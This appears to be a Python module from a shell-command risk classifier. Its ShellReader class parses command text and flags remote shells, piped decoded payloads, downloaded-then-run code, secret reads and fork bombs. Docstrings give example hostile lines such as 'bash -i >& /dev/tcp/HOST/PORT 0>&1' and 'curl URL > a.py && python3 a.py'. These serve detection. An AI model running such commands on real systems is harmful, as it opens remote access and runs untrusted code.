"""The walk: :class:`ShellReader` reads command text as a shell does (tiers.md, "Command tier").

The text is parsed (:mod:`core.policy.shell.syntax`; a short list of plain commands takes a fast path that
builds no nodes), then walked with a little data flow: lists and pipelines (what each stage prints is the next
one's input), groups and functions, ``for`` loops and loops fed by ``done < file``, assignments, redirects
(writes are path rules; ``< file``, heredocs and ``<(cmd)`` are inputs). Every simple command is expanded
(:mod:`.expansion`) and dispatched to its program's handler (:mod:`.dispatch`). Damaged text is also read
loosely; text past the work budget goes to the overflow scan (:mod:`core.policy._overflow`).

``ShellReader`` is put together from mixins, one concern each: :class:`.dispatch.Dispatch`,
:class:`.expansion.Expansion`, :class:`.effects.options.OptionEffects`, :class:`.effects.secrets.SecretEffects`,
:class:`.effects.paths.PathEffects`. Program rules are never added here: they go into a family
(:mod:`core.policy.shell.families`) or a table (:mod:`core.policy.tables`).
"""

from __future__ import annotations

import re

from core.policy import _paths as P
from core.policy._overflow import scan_overflow
from core.policy.shell.dispatch import Dispatch
from core.policy.shell.effects.addresses import network_destination
from core.policy.shell.effects.knowledge import read_interactive_input
from core.policy.shell.effects.options import OptionEffects
from core.policy.shell.effects.paths import NET_DEVICES, PathEffects
from core.policy.shell.effects.secrets import SECRET_HINT, SecretEffects
from core.policy.shell.effects.shells import SHELL_NAMES, pipeline_remote_shell
from core.policy.shell.expansion import Expansion
from core.policy.shell.params import ParamExpansion
from core.policy.shell.state import (
    DECODED,
    DECODED_TEXT,
    DECODED_VAR,
    DOWNLOAD,
    MARK,
    MAX_COMBOS,
    MAX_DEPTH,
    MAX_VALUE,
    OTHER,
    SECRET,
    Acc,
    Ctx,
    FileInput,
    ProcOutput,
    TextInput,
    bounded,
    held_text,
)
from core.policy.shell.syntax import (
    LIT,
    LOOP_END,
    LOOP_HEAD,
    PARAM,
    VAR,
    ForLoop,
    FuncDef,
    Group,
    Parser,
    Simple,
)
from core.tiers import Tier

S, L, M, H, C = Tier.SAFE, Tier.LOW, Tier.MEDIUM, Tier.HIGH, Tier.CRITICAL


class ShellReader(Dispatch, Expansion, ParamExpansion, OptionEffects, SecretEffects, PathEffects):
    """Reads command text as a shell does and returns its tier: ``ShellReader(read_only_extra).classify(text,
    cwd) -> (Acc, damaged)``. One reader serves any number of texts (its tables are built once); the state of
    one text lives in its :class:`~core.policy.shell.state.Ctx`."""

    def classify(self, text: str, cwd: str | None = None, acc: Acc | None = None,
                 ctx: Ctx | None = None) -> tuple[Acc, bool]:
        """Classify ``text``; returns the verdict and whether the text was damaged (unparseable)."""
        acc = acc or Acc()
        if ctx is None:
            ws = None
            user = None
            if cwd and (cwd.startswith("/") or cwd.startswith("~")):
                ws = P.normalize(cwd, None)
                parts = ws.split("/")
                if len(parts) > 2 and parts[1] in ("home", "Users"):
                    user = parts[2]
            ctx = Ctx(ws, ws, user)
            ctx.secretish = SECRET_HINT.search(text) is not None
        if len(text) < 512 and not _NOT_PLAIN.search(text) and not ("HOME" in text and "~" in text):
            # (a HOME set in the text changes what `~` names: the full reader expands it)
            done = self._plain_list(text, ctx, acc)
            if done:
                return acc, False
        p = Parser(text, 0, ctx.budget)
        script = p.parse()
        self.run_script(script, ctx, acc)
        damaged = p.damaged
        if damaged and ctx.budget.unread:
            # damaged and too long: the overflow scan (which drops quotes and splits at every bracket) reads
            # the whole text instead of a second, loose parse
            ctx.budget.unread.insert(0, text)
            acc.add(L, "shell.unparseable", "text that cannot be read fully as shell")
        elif damaged:
            # read the text loosely too: quotes and brackets removed, so nothing hides behind damage
            loose = _loose(text)
            p2 = Parser(loose, 0, ctx.budget)
            script2 = p2.parse()
            ctx2 = ctx.child()
            self.run_script(script2, ctx2, acc)
            acc.add(L, "shell.unparseable", "text that cannot be read fully as shell")
        if "\n" in text and acc.tier < 4:
            read_interactive_input(self, text, ctx, acc)  # (what follows a bare interactive program: its input)
        if ctx.budget.unread:
            scan_overflow(self, ctx.budget.unread, ctx, acc)
        return acc, damaged

    def _plain_list(self, text: str, ctx: Ctx, acc: Acc) -> bool:
        """Fast path for a short list of plain commands (words, single- or double-quoted literals without
        expansions, joined by ``&& || ; | &``): the same walk as the parser's, without building its nodes.
        False (nothing done) when the text is not that."""
        cmds: list = []
        ops: list = []
        cur: list = []
        pos, n = 0, len(text)
        match = _PQ_TOKEN.match
        while pos < n:
            m = match(text, pos)
            if m is None:
                if text[pos:].strip(" \t"):
                    return False
                break
            pos = m.end()
            w = m.group(1)
            if w is not None:
                if w[:1] == "~" and w[1:2] in ("+", "-"):
                    return False  # (`~+`, `~-`: the directories, read by the expansion)
                if not cur:
                    if w in _PLAIN_STOP or "=" in w or "'" in w or '"' in w:
                        return False
                elif "'" in w or '"' in w:
                    w = _PQ_QUOTED.sub(_unquote, w)
                cur.append(w)
                continue
            if not cur:
                return False
            cmds.append(cur)
            ops.append(m.group(2))
            cur = []
        if not cur:
            return False
        cmds.append(cur)
        budget = ctx.budget
        stdin = None
        last = len(cmds) - 1
        for k, ws in enumerate(cmds):
            if acc.tier >= 4:
                break  # CRITICAL is final
            budget.nodes -= 1
            stdin = self.run_argv(ws, [None] * len(ws), ctx, acc, stdin)
            if k < last and ops[k] != "|":
                stdin = None
        return True

    def run_text(self, text: str, ctx: Ctx, acc: Acc):
        """Read a nested script (``sh -c``, ``ssh host …``, ``eval``)."""
        if ctx.flags and self.runs_decoded(text, ctx, acc):
            return OTHER
        if ctx.depth >= MAX_DEPTH:
            acc.add(M, "shell.too_deep", "scripts nested too deep to read")
            return OTHER
        p = Parser(text, 0, ctx.budget)
        script = p.parse()
        c = ctx.child(deeper=True)
        out = self.run_script(script, c, acc)
        if p.damaged:
            loose = _loose(text)
            self.run_script(Parser(loose, 0, ctx.budget).parse(), ctx.child(deeper=True), acc)
            acc.add(L, "shell.unparseable", "text that cannot be read fully as shell")
        return out

    def runs_decoded(self, text: str, ctx: Ctx, acc: Acc) -> bool:
        """``text`` holds data decoded at run time (``watch "$(echo … | base64 -d)"``): HIGH whatever it decodes to,
        as ``… | base64 -d | sh`` is (tiers.md), and not read further."""
        for f in ctx.flags:
            if f.startswith(DECODED_TEXT) and (f[len(DECODED_TEXT):] == text.strip() or (
                    len(f) - len(DECODED_TEXT) >= 4 and f[len(DECODED_TEXT):] in text)):
                acc.add(H, "shell.pipe_exec.decoded", "runs decoded data (its text is hidden until run time)")
                return True
        return False

    # --------------------------------------------------------------- walking
    def run_script(self, script: list, ctx: Ctx, acc: Acc):
        """Walk a script (``[(node, op)]``); returns what its last pipeline prints."""
        out = None
        pipe: list = []
        feeds = _loop_inputs(script)
        fed: list = []  # loops being read with their input (``while read l; do …; done < file``): (end, input)
        feed = None
        for k, (node, op) in enumerate(script):
            if acc.tier >= 4:
                return out  # CRITICAL is final: nothing later can change the verdict or its reason
            if feeds is not None:
                while fed and k > fed[-1][0]:
                    fed.pop()
                if k in feeds:
                    end, inputs = feeds[k]
                    fed.append((end, self._redirects(inputs, ctx, acc, None)))
                feed = fed[-1][1] if fed else None
                if fed and k == fed[-1][0] and not pipe and op != "|":
                    # the loop's `done`: its input was read at the loop's start (not read twice)
                    out = self._loop_end(node, feed, ctx, acc)
                    continue
            pipe.append(node)
            if op == "|":
                continue
            out = self.run_pipeline(pipe, ctx, acc, feed)
            pipe = []
        if pipe:
            out = self.run_pipeline(pipe, ctx, acc, feed)
        return out

    def _loop_end(self, node: Simple, stdin, ctx: Ctx, acc: Acc):
        """``done < file > out``: the input (read already, ``stdin``) is a read by the loop; other redirects
        are checked as usual."""
        budget = ctx.budget
        budget.nodes -= 1
        rest = [rd for rd in node.redirs if rd.op not in ("<", "<<<", "<<", "<<-")]
        if rest:
            self._redirects(rest, ctx, acc, None)
        if type(stdin) is FileInput:
            self.read_secret_check("the loop", [stdin.path], ctx, acc)
        return None

    def run_pipeline(self, nodes: list, ctx: Ctx, acc: Acc, stdin=None):
        """The stages of one pipeline, each reading what the one before printed; returns what the last prints."""
        for node in nodes:
            stdin = self.run_node(node, ctx, acc, stdin)
        if len(nodes) > 1 and acc.tier < 3:
            pipeline_remote_shell([[w.lit for w in nd.words[:8]] for nd in nodes if type(nd) is Simple], acc)
        return stdin

    def run_node(self, node, ctx: Ctx, acc: Acc, stdin):
        """One node: a simple command, a group (a subshell gets its own state), a function definition (a fork bomb
        is CRITICAL), a ``for`` header (the loop variable's values)."""
        t = type(node)
        if t is Simple:
            return self.run_simple(node, ctx, acc, stdin)
        if t is Group:
            c = ctx.child() if node.subshell else ctx
            out = self.run_script(node.body, c, acc)
            if node.redirs:
                self._redirects(node.redirs, ctx, acc, None)
            return out
        if t is FuncDef:
            ctx.funcs.add(node.name)
            if _calls_itself(node.body, node.name):
                acc.add(C, "shell.fork_bomb", "fork bomb (a function that starts copies of itself)")
            self.run_script(node.body, ctx.child(), acc)
            return None
        if t is ForLoop:
            if node.var is None:  # for ((…)): the arithmetic is read, no variable takes values
                for w in node.words:
                    self.expand(w, ctx, acc)
                return None
            values: list = []
            for w in node.words:
                fields, _ = self.expand(w, ctx, acc)
                values.extend(fields)
            if len(values) == 1:
                ctx.env[node.var] = values[0]
            elif values:
                ctx.env[node.var] = values[:MAX_COMBOS]
            else:
                ctx.env[node.var] = MARK
            return None
        return None

    # --------------------------------------------------------------- commands
    def run_simple(self, node: Simple, ctx: Ctx, acc: Acc, stdin):
        """One simple command: its assignments, redirects and words expanded (once per value of a loop variable
        with several), then dispatched; returns what it prints."""
        budget = ctx.budget
        budget.nodes -= 1
        if budget.nodes < 0:
            # past the budget: the command is left to the overflow scan (which also sets the MEDIUM floor)
            if len(budget.unread) < 4096:
                budget.unread.append(_node_text(node))
            return OTHER
        if node.test:
            if node.words[0].lit == "[[":
                self.arith_test(node.words[1:], ctx, acc)  # (operands of -eq …: arithmetic, evaluated by bash)
                return None
            for w in node.words:
                if w.lit is None:
                    self.expand(w, ctx, acc)
            return None
        for name, w in node.assigns:
            fields, meta = self.expand(w, ctx, acc, split=False)
            val = "".join(fields)
            ctx.env[name] = val if len(val) <= MAX_VALUE else bounded(val, acc)
            if meta is not None and meta[0] == SECRET:
                ctx.tainted.add(name)
            elif ctx.tainted:
                ctx.tainted.discard(name)
            if meta is not None and meta[0] is DECODED:
                ctx.flags.add(DECODED_VAR + name)  # (x=$(echo … | base64 -d): $x is decoded data)
            elif ctx.flags:
                ctx.flags.discard(DECODED_VAR + name)
            self.set_var(name, val, ctx, acc)
        if node.redirs:
            if node.words and any(rd.target is not None and rd.target.lit and rd.target.lit.startswith(NET_DEVICES)
                                  for rd in node.redirs):
                _net_shell(node, acc)
            stdin = self._redirects(node.redirs, ctx, acc, stdin)
        if not node.words:
            if type(stdin) is FileInput and any(rd.op == "<" for rd in node.redirs):
                # `$(< file)` is `$(cat file)`; `done < file` feeds a loop (its commands were read with it)
                self.read_secret_check("the loop" if node.loop == LOOP_END else "`<`", [stdin.path], ctx, acc)
                return SECRET if self.is_secret_path(stdin.path, ctx) else OTHER
            return None
        if node.plain:
            # literal words only (no assignments, redirects, quotes or expansions): without braces to expand,
            # the words are the arguments
            argv = [w.lit for w in node.words]
            joined = " ".join(argv)
            if "{" not in joined and "~" not in joined:  # (`~+`, `~-` and a reassigned HOME: expanded)
                return self.run_argv(argv, [None] * len(argv), ctx, acc, stdin)
        # loop variables with several values: read the command once per value
        multi = None
        for w in node.words:
            if w.lit is None:
                for p in w.parts:
                    if (p[0] == VAR or p[0] == PARAM) and isinstance(ctx.env.get(p[1]), list):
                        multi = p[1]
                        break
            if multi:
                break
        if multi is None:
            argv, metas = self.expand_words(node.words, ctx, acc)
            if not argv:
                return None
            out = self.run_argv(argv, metas, ctx, acc, stdin)
            if node.redirs and (type(out) is TextInput or type(out) is FileInput or out is DOWNLOAD
                                or out is DECODED):
                if type(out) is TextInput and any(metas) and any(m is not None and m[0] is DECODED for m in metas):
                    out = DECODED  # (echo "$(… | base64 -d)" > f: f holds decoded data)
                self._note_output_file(node.redirs, out, ctx)
            return out
        out = None
        for k in range(len(ctx.env[multi])):
            argv, metas = self.expand_words(node.words, ctx, acc, {multi: k})
            if argv:
                out = self.run_argv(argv, metas, ctx, acc, stdin)
        return out

    def _note_output_file(self, redirs: list, out, ctx: Ctx) -> None:
        """A command's output sent to a file (``> f``): literal text is remembered (``echo … > f; sh f``), a
        download marks the file as downloaded code (``curl URL > a.py && python3 a.py``)."""
        for rd in redirs:
            if rd.op in (">", ">>", ">|") and rd.fd in (None, "1") and rd.target is not None:
                target = rd.target.lit
                if target is None and all(p[0] == LIT or p[0] == VAR for p in rd.target.parts):
                    fields, _ = self.expand(rd.target, ctx, Acc(), split=False)  # (`> $TF`: a variable's value)
                    target = "".join(fields)
                if not target or MARK in target:
                    continue
                key = P.normalize(target, ctx.cwd)
                if out == DOWNLOAD or out == DECODED:  # (decoded data run later is HIGH like `| sh`)
                    if len(ctx.downloaded) < 64:
                        ctx.downloaded.add(key)
                elif len(ctx.written) < 64:
                    prev = ctx.written.get(key, "") if rd.op == ">>" else ""
                    ctx.written[key] = (prev + held_text(out))[:MAX_VALUE * 4]

    def _redirects(self, redirs: list, ctx: Ctx, acc: Acc, stdin):
        """Apply redirects: inputs (``<``, heredocs, ``<<<``, ``< <(cmd)``) replace ``stdin``, outputs are writes;
        returns the command's input."""
        for r in redirs:
            op = r.op
            if op == "<<" or op == "<<-":
                stdin = TextInput(r.body or "", True)
                if r.subs:
                    for sub in r.subs:
                        if self.run_script(sub, ctx.child(deeper=True), acc) == SECRET:
                            stdin = SECRET
                elif "$" in stdin.text and ctx.tainted and any("$" + v in stdin.text or "${" + v in stdin.text
                                                               for v in ctx.tainted):
                    stdin = SECRET
                continue
            fields, meta = self.expand(r.target, ctx, acc, split=False) if r.target is not None else ([], None)
            target = "".join(fields)
            if meta is not None and type(meta[0]) is ProcOutput:
                if op == "<":
                    stdin = meta[0].out  # `< <(cmd)`: cmd's output
                    continue
            if op == "<<<":
                if meta is not None and meta[1] and MARK in target:
                    # a secret-named variable's value given on the input (cat <<< "$API_KEY"): like echo of it
                    acc.add(M, "shell.secret_read", "a secret variable's value is given on the input of the command")
                    stdin = SECRET
                    continue
                stdin = SECRET if meta is not None and meta[0] == SECRET else TextInput(target + "\n", True)
                continue
            if op == "<":
                stdin = DOWNLOAD if target.startswith(NET_DEVICES) else FileInput(target)  # (a socket: the network)
                continue
            if op in (">&", "<&"):
                if not target or target == "-" or target.isdigit():
                    continue
            if op == "<&":
                continue
            self.write_path(target, ctx, acc, "redirect output to")
        return stdin

def _net_shell(node: Simple, acc: Acc) -> None:
    """A shell or interpreter whose input or output is redirected to ``/dev/tcp/HOST/PORT`` is a remote shell
    (``bash -i >& /dev/tcp/HOST/PORT 0>&1``, ``exec 5<>/dev/tcp/HOST/PORT``)."""
    w0 = node.words[0].lit
    prog = w0.rsplit("/", 1)[-1] if w0 else None
    if prog in SHELL_NAMES or prog == "exec":
        dest = next(network_destination(rd.target.lit) for rd in node.redirs if rd.target is not None and
                    rd.target.lit and rd.target.lit.startswith(NET_DEVICES))
        dev = next((rd.target.lit[:8] for rd in node.redirs if rd.target is not None and rd.target.lit and
                    rd.target.lit.startswith(NET_DEVICES)), "/dev/tcp")
        acc.add(H, "shell.remote_shell", f"starts a remote shell to {dest or 'the network'} ({prog} through {dev})")


_LOOSE_PAIRS = (("'", ""), ('"', ""), ("`", ";"), ("(", ";"), (")", ";"), ("{", " "), ("}", " "), ("\\", ""),
                ("$", " "))


def _loose(text: str) -> str:
    """Quotes and brackets removed (str.replace runs in C; a translate table with deletions does not)."""
    for a, b in _LOOSE_PAIRS:
        if a in text:
            text = text.replace(a, b)
    return text

#: characters that need the full reader (expansions, redirects, grouping, comments, new lines …)
_NOT_PLAIN = re.compile(r"[^A-Za-z0-9 \t_./,:+@%^=*?&|;~\[\]'\"-]|&&&|\|\|\||;;|\|&|&\||;&|&;|\|;|;\|")
#: one word (plain characters and quoted literals) or one list operator, after blanks
_PQ_TOKEN = re.compile(r"""[ \t]*(?:((?:[^\s'"\\$`;&|()<>#{}!]|'[^']*'|"[^"\\$`!]*")+)|(&&|\|\||[;&|]))""")
_PQ_QUOTED = re.compile(r"'([^']*)'|\"([^\"]*)\"")


def _unquote(m) -> str:
    return m.group(1) if m.group(1) is not None else m.group(2)


#: first words handled by the parser itself (reserved words, groups)
_PLAIN_STOP = frozenset(("if", "then", "elif", "else", "do", "while", "until", "!", "fi", "done", "esac", "{", "}",
                         "for", "select", "case", "function", "[[", "((", "in", "time", "coproc"))


def _node_text(node: Simple) -> str:
    """A simple command as text again (for the overflow scan): literal words as they are, others ``$?``."""
    words = [w.lit if w.lit is not None else "$?" for w in node.words]
    for rd in node.redirs:
        tgt = rd.target.lit if rd.target is not None and rd.target.lit is not None else "$?"
        words.append(f"{rd.op} {tgt}" if rd.op not in ("<<", "<<-") else "")
    return " ".join(words)


def _loop_inputs(script: list) -> dict | None:
    """Loops of ``script`` whose ``done`` redirects their input (``while read l; do …; done < file``): the index
    of each loop's first command -> (the index of its ``done``, the input redirects). None when there are none."""
    heads: list = []
    found = None
    for k, (node, _op) in enumerate(script):
        t = type(node)
        if t is ForLoop or (t is Simple and node.loop == LOOP_HEAD):
            heads.append(k)
        elif t is Simple and node.loop == LOOP_END and heads:
            start = heads.pop()
            inputs = [r for r in node.redirs if r.op in ("<", "<<<", "<<", "<<-")]
            if inputs:
                if found is None:
                    found = {}
                found[start] = (k, inputs)
    return found


def _calls_itself(script: list, name: str, depth: int = 0) -> bool:
    """Whether the function ``name``'s body starts copies of itself in a pipe or the background (a fork bomb)."""
    if depth > 10:
        return False
    prev_pipe = False
    for node, op in script:
        if type(node) is Simple:
            if node.words and node.words[0].lit == name and (op in ("|", "&") or prev_pipe):
                return True
        elif type(node) is Group:
            if _calls_itself(node.body, name, depth + 1):
                return True
        prev_pipe = op == "|"
    return False
